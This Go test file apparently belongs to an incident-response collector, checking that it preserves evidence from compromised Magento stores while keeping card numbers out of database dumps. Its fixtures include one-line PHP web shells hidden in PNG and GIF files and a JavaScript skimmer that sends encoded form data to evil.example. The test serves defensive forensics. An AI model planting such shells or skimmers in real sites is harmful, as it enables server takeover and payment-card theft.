//go:build linux

package collect

import (
	"database/sql"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/custos-ir/custos/collect/cardscan"
	"github.com/custos-ir/custos/custody"
	"github.com/custos-ir/custos/internal/testenv"
	"github.com/custos-ir/custos/profiles"
)

func put(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func link(t *testing.T, target, p string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(p), 0o755)
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}

func envPHP(db string) string {
	return `<?php return ['crypt' => ['key' => 'k3y-of-` + db + `'], 'db' => ['table_prefix' => '', 'connection' => ['default' => ['host' => '127.0.0.1:3306', 'dbname' => '` + db + `', 'username' => 'root', 'password' => '']]]];`
}

func loadSQL(t *testing.T, db *sql.DB, file string) {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(strings.ReplaceAll(string(b), "PREFIX_", "")); err != nil {
		t.Fatal(err)
	}
}

// collectStores plans the magento profile over a fixture host and runs the
// steps keep selects.
func collectStores(t *testing.T, base string, keep func(Planned) bool) (map[string]custody.Artifact, []Planned, func(custody.Artifact) map[string]string, func(custody.Artifact) string) {
	t.Helper()
	var warns []string
	mine := magentoFiles(t, PlanOptions{Root: base, Warn: func(s string) { warns = append(warns, s) }}, func(st Planned) bool { return true })
	var run []Planned
	for _, st := range mine {
		if st.Source != nil && keep(st) {
			run = append(run, st)
		}
	}
	pl, stor, id := newPipeline(t)
	m := runCollection(t, pl, run)
	got := map[string]custody.Artifact{}
	for _, a := range m.Artifacts {
		got[a.Name] = a
	}
	if r := verifyLocal(t, stor, m, id); r != "" {
		t.Error(r)
	}
	t.Logf("plan warnings: %v", warns)
	return got, mine, func(a custody.Artifact) map[string]string {
			return tarOf(t, func(key string) []byte { return decrypt(t, stor, m.Storage.Prefix+key, id) }, a)
		}, func(a custody.Artifact) string {
			if a.Key == "" {
				return ""
			}
			return string(decrypt(t, stor, m.Storage.Prefix+a.Key, id))
		}
}

// A Magento 2 store in a Deployer layout (current -> releases/2, env.php,
// var/log and pub/media links into shared/) with an old release and a
// staging copy beside it: every store is found and taken, each with its
// own files and database, shared folders once, one database once.
func TestMagentoDeployerWithStaging(t *testing.T) {
	dbLive, liveName := testenv.MariaDB(t)
	loadSQL(t, dbLive, "mysqldump/testdata/magento.sql")
	dbStage, stageName := testenv.MariaDB(t)
	loadSQL(t, dbStage, "mysqldump/testdata/magento.sql")
	dbStage.Exec("INSERT INTO core_config_data (path, value) VALUES ('web/unsecure/base_url', 'https://STAGING-DB.example/')")

	base := t.TempDir()
	shop := filepath.Join(base, "var/www/shop")
	put(t, shop+"/shared/app/etc/env.php", envPHP(liveName))
	put(t, shop+"/shared/var/log/system.log", "main.INFO: SHARED-LOG admin login from 203.0.113.9\n")
	put(t, shop+"/shared/pub/media/.x/shell.png", "\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>")
	for _, rel := range []string{"1", "2"} {
		r := shop + "/releases/" + rel
		link(t, shop+"/shared/app/etc/env.php", r+"/app/etc/env.php")
		link(t, shop+"/shared/var/log", r+"/var/log")
		link(t, shop+"/shared/pub/media", r+"/pub/media")
		put(t, r+"/pub/index.php", "<?php // release "+rel+"\n")
		js := "require(['jquery'], function () {});\n"
		if rel == "2" {
			js += "new Image().src='https://evil.example/c?'+btoa(document.forms[0]); // SKIMMER-RELEASE-2\n"
		}
		put(t, r+"/pub/static/frontend/Magento/luma/en_US/js/theme.js", js)
	}
	link(t, "releases/2", shop+"/current")
	stage := filepath.Join(base, "var/www/staging")
	put(t, stage+"/app/etc/env.php", envPHP(stageName))
	put(t, stage+"/var/log/system.log", "main.INFO: STAGING-LOG\n")
	put(t, stage+"/pub/index.php", "<?php\n")

	got, plan, files, raw := collectStores(t, base, func(st Planned) bool {
		n := st.Desc.Name
		return strings.HasPrefix(n, "magento-logs") || strings.HasPrefix(n, "magento-media") || strings.HasPrefix(n, "magento-static") ||
			strings.HasPrefix(n, "magento-secrets") || (strings.HasPrefix(n, "database") && !strings.HasPrefix(n, "database-logs"))
	})
	names := map[string]string{}
	for _, st := range plan {
		names[st.Desc.Name] = st.Skip
	}
	for _, want := range []string{"magento-logs", "magento-logs.staging", "magento-logs.releases-1", "database", "database.staging"} {
		if s, ok := names[want]; !ok || s != "" {
			t.Errorf("%s: planned %v, skip %q", want, ok, s)
		}
	}
	if s := names["database.releases-1"]; !strings.Contains(s, "same database as artifact database") {
		t.Errorf("the old release's database (the same one) is not skipped: %q", s)
	}
	if _, ok := names["magento-logs.releases-2"]; ok {
		t.Error("releases/2 is taken twice (it is current)")
	}

	logs := files(got["magento-logs"])
	if !strings.Contains(logs[shop+"/shared/var/log/system.log"], "SHARED-LOG") {
		t.Errorf("the shared log is not taken through current's var/log link: %v", keys(logs))
	}
	if old := files(got["magento-logs.releases-1"]); len(old) != 0 || !strings.Contains(strings.Join(got["magento-logs.releases-1"].Warnings, " "), "taken once, in magento-logs") {
		t.Errorf("the old release took the shared logs again: %v %v", keys(old), got["magento-logs.releases-1"].Warnings)
	}
	if !strings.Contains(files(got["magento-logs.staging"])[stage+"/var/log/system.log"], "STAGING-LOG") {
		t.Error("the staging copy's logs are missing")
	}
	if s := files(got["magento-secrets"])[shop+"/shared/app/etc/env.php"]; !strings.Contains(s, "k3y-of-") {
		t.Error("env.php is not taken through its link into shared/")
	}
	if !strings.Contains(files(got["magento-static"])[shop+"/releases/2/pub/static/frontend/Magento/luma/en_US/js/theme.js"], "SKIMMER-RELEASE-2") {
		t.Error("the live release's skimmer is not copied")
	}
	if _, ok := files(got["magento-static.releases-1"])[shop+"/releases/1/pub/static/frontend/Magento/luma/en_US/js/theme.js"]; !ok {
		t.Error("the old release's static files are not taken")
	}
	if !strings.Contains(files(got["magento-media"])[shop+"/shared/pub/media/.x/shell.png"], "system($_GET") {
		t.Error("the web shell in shared/pub/media is not copied")
	}
	for _, a := range []string{"database", "database.staging"} {
		if got[a].Status != "ok" || got[a].Format != "sql" {
			t.Errorf("%s: %s %v", a, got[a].Status, got[a].Errors)
		}
	}
	if live, staging := raw(got["database"]), raw(got["database.staging"]); !strings.Contains(live, "SKIMMER-CONFIG") || strings.Contains(live, "STAGING-DB") || !strings.Contains(staging, "STAGING-DB") {
		t.Error("each store's database is not its own")
	}
}

// A Magento 1 store with card data in sales_flat_order_payment and
// sales_flat_quote_payment: found by its local.xml, dumped with Magento 1's
// plan; no card number in any form is in the collection, whatever a
// profile asks.
func TestMagento1CardData(t *testing.T) {
	db, name := testenv.MariaDB(t)
	loadSQL(t, db, "apps/magento/testdata/magento1.sql")
	base := t.TempDir()
	root := filepath.Join(base, "var/www/html")
	put(t, root+"/app/etc/local.xml", `<?xml version="1.0"?><config><global><crypt><key><![CDATA[m1cryptkey]]></key></crypt><resources><db><table_prefix><![CDATA[]]></table_prefix></db>
<default_setup><connection><host><![CDATA[127.0.0.1:3306]]></host><username><![CDATA[root]]></username><password><![CDATA[]]></password><dbname><![CDATA[`+name+`]]></dbname></connection></default_setup></resources></global></config>`)
	put(t, root+"/app/Mage.php", "<?php final class Mage {}\n")
	put(t, root+"/app/etc/modules/Evil_Pay.xml", "<config><modules><Evil_Pay><active>true</active></Evil_Pay></modules></config>\n")
	put(t, root+"/js/varien/form.js", "VarienForm = Class.create(); // SKIMMER-M1-JS\n")
	put(t, root+"/errors/report.php", "<?php // M1-ERRORS\n")
	put(t, root+"/media/catalog/x.gif", "GIF89a<?php eval($_POST[1]); ?>")

	got, _, files, raw := collectStores(t, base, func(st Planned) bool {
		n := st.Desc.Name
		return n == "database" || n == "magento-config" || n == "magento-static" || n == "magento-code" || n == "magento-media"
	})
	var all strings.Builder
	for _, n := range []string{"magento-config", "magento-static", "magento-code", "magento-media"} {
		for k, v := range files(got[n]) {
			all.WriteString(k + "\n" + v + "\n")
		}
	}
	for _, want := range []string{"Evil_Pay.xml", "SKIMMER-M1-JS", "M1-ERRORS", "media/catalog/x.gif"} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("Magento 1: %s not taken", want)
		}
	}
	a := got["database"]
	if a.Status != "ok" {
		t.Fatalf("database: %s %v", a.Status, a.Errors)
	}
	if !strings.Contains(strings.Join(a.Warnings, " "), "Magento 1 store") {
		t.Errorf("not dumped with Magento 1's plan: %v", a.Warnings)
	}
	sqlText := raw(a)
	for _, want := range []string{"SKIMMER-M1", "syshelper", "soap_sync", "template=\"../../../../../../media/x.phtml\"", "custos_orders_per_day", "ccsave"} {
		if !strings.Contains(sqlText, want) {
			t.Errorf("%q missing from the Magento 1 dump", want)
		}
	}
	for _, never := range []string{"4111111111111111", "5555 5555 5555 4444", "378282246310005", "m1adminhash", "m1apikeysecret", "buyer1@mail.example", "Cy Buyer", "cc_number_enc`,"} {
		if strings.Contains(sqlText, never) {
			t.Errorf("%q is in the Magento 1 dump", never)
		}
	}
	var sc cardscan.Scanner
	sc.Write([]byte(sqlText))
	sc.Close()
	if sc.Count() != 0 {
		t.Errorf("%d card-like numbers in the dump", sc.Count())
	}

	// A profile that names the payment tables and asks for every row.
	p, err := profiles.Parse([]byte("name: m1\nplatform: linux\nartifacts:\n  - name: db\n    mysql:\n      magento_root: " + root + "\n      tables: [{name: sales_flat_order_payment, mode: rows}, {name: SALES_FLAT_QUOTE_PAYMENT}, {name: sales_flat_quote_payment, mode: scan}]\n"))
	if err != nil {
		t.Fatal(err)
	}
	steps, err := Plan(p, PlanOptions{GOOS: "linux", Live: func(string) (StreamFunc, bool) { return nil, false }})
	if err != nil {
		t.Fatal(err)
	}
	pl, stor, id := newPipeline(t)
	m := runCollection(t, pl, steps)
	out := string(decrypt(t, stor, m.Storage.Prefix+m.Artifacts[0].Key, id))
	if strings.Contains(out, "4111111111111111") || strings.Contains(out, "378282246310005") || strings.Contains(out, "5555 5555") || !strings.Contains(out, "m1txn-2") {
		t.Errorf("a profile asking for the payment tables got card data (or nothing):\n%s", out)
	}
}

// A store whose env.php does not parse: its database artifact says so in
// one line naming the place; its files and the other stores are taken.
func TestMagentoConfigThatDoesNotParse(t *testing.T) {
	base := t.TempDir()
	good := filepath.Join(base, "var/www/html")
	put(t, good+"/app/etc/env.php", "<?php return ['db' => ['connection' => ['default' => ['host' => '127.0.0.1:1', 'dbname' => 'x']]]];")
	put(t, good+"/var/log/system.log", "GOOD-LOG\n")
	bad := filepath.Join(base, "var/www/broken")
	put(t, bad+"/app/etc/env.php", "<?php return ['db' => getenv('DB')];")
	put(t, bad+"/var/log/system.log", "BROKEN-STORE-LOG\n")
	got, _, files, _ := collectStores(t, base, func(st Planned) bool {
		return st.Desc.Name == "database.broken" || strings.HasPrefix(st.Desc.Name, "magento-logs")
	})
	d := got["database.broken"]
	if d.Status != "failed" || len(d.Errors) != 1 || !strings.Contains(d.Errors[0], bad+"/app/etc: env.php: line 1:23: not a literal value") {
		t.Errorf("database.broken: %s %v", d.Status, d.Errors)
	}
	if !strings.Contains(files(got["magento-logs.broken"])[bad+"/var/log/system.log"], "BROKEN-STORE-LOG") || !strings.Contains(files(got["magento-logs"])[good+"/var/log/system.log"], "GOOD-LOG") {
		t.Error("the stores' logs were not taken")
	}
}
